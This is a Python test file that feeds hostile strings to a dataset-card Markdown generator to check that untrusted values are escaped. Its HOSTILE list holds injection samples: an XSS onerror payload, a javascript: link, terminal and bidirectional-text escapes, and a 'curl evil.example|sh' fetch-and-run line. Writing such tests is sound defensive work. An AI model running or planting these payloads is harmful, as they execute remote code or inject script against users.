"""Names and values of a source are only ever text on the card."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from transforms.dataset.card import card, code_span, escaped, fenced
from transforms.storage.manifest_parts import Training

HOSTILE = (
    '<img src=x onerror="alert(1)">',
    'question\n\n## How to load\n\n```python\nimport os; os.system("curl evil.example|sh")\n```\n',
    "```",
    "`a` ``b`` `",
    " ",
    "a|b",
    "\x1b]52;c;cHduZWQ=\x07",
    "\u202egnp.exe",
    "[a](javascript:alert(1)) ![b](https://evil.example/x.png)",
    "a\u2028b\r\n# c",
    "\ud800",
)

texts = st.text(st.characters(), min_size=1) | st.sampled_from(HOSTILE)


def spans(markdown: str) -> list[str]:
    """The contents of all code spans, as CommonMark 6.1 reads them."""
    return [found[2] for found in re.finditer(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", markdown)]


@given(texts)
def test_a_value_is_one_code_span_on_one_line(text: str) -> None:
    made = code_span(text)
    (inner,) = spans(made)
    assert len(made.splitlines()) == 1
    assert made.startswith("`") and made.endswith("`")
    assert len(inner) >= len(made) - 2 * len(re.match("`+", made)[0])  # type: ignore[index]


@given(texts)
def test_prose_has_no_element_and_no_cell_of_its_own(text: str) -> None:
    made = escaped(text)
    assert len(made.splitlines()) <= 1
    assert re.search(r"(?<!\\)(\\\\)*[<>|`*_\[\]&#]", made) is None


@given(texts)
def test_a_block_ends_where_it_is_meant_to(text: str) -> None:
    first, *inside, last = fenced(text, "python").split("\n")
    assert first == f"{last}python"
    assert all(not line.strip().startswith(last) for line in inside)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_card_has_the_headings_and_blocks_of_a_plain_one(text: str) -> None:
    def made(value: str) -> str:
        training = Training(template=value, user_marker=value, snippets={"TRL": value})
        return card(f"Made from {code_span(value)}.", training=training).decode()

    def bare(markdown: str) -> str:
        """Without blocks and spans."""
        outside = re.sub(r"(?ms)^(`{3,})\w*\n.*?^\1$", "", markdown)
        return re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", "", outside)

    assert bare(made(text)) == bare(made("plain"))
    assert html.escape(bare(made(text)), quote=False) == bare(made(text))
